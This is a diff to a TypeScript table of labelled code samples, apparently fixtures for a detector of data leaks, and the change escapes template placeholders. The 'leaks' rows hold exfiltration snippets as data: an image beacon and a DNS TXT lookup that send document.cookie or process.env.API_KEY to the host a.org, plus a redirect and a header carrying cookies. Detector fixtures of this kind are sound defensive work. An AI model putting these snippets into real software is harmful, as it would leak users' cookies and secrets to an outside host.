@@ -36,7 +36,7 @@ export const KINDS: readonly Row[] = [
     'testActs',
     'test/a.test.ts',
     'await fetch(url);',
-    'const url = `http://localhost:${port}/`;\nawait fetch(url);',
+    'const url = `http://localhost:\u0024{port}/`;\nawait fetch(url);',
   ),
   line(
     'testActs',
@@ -148,14 +148,14 @@ export const KINDS: readonly Row[] = [
   line(
     'leaks',
     'a.ts',
-    'new Image().src = `https://a.org/${document.cookie}`;',
-    'new Image().src = `https://a.org/${id}.png`;',
+    'new Image().src = `https://a.org/\u0024{document.cookie}`;',
+    'new Image().src = `https://a.org/\u0024{id}.png`;',
   ),
   line(
     'leaks',
     'a.ts',
-    "import { resolveTxt as r } from 'node:dns';\nconst k = process.env.API_KEY;\nr(`${k}.a.org`, done);",
-    "import { resolveTxt as r } from 'node:dns';\nr(`${name}.a.org`, done);",
+    "import { resolveTxt as r } from 'node:dns';\nconst k = process.env.API_KEY;\nr(`\u0024{k}.a.org`, done);",
+    "import { resolveTxt as r } from 'node:dns';\nr(`\u0024{name}.a.org`, done);",
   ),
   line('leaks', 'a.ts', "res.setHeader('x-a', req.headers.cookie);", "res.setHeader('x-a', req.headers.host);"),
   line('leaks', 'a.ts', "res.redirect('https://a.org/?t=' + req.cookies.t);", "res.redirect('/orders/' + order.id);"),
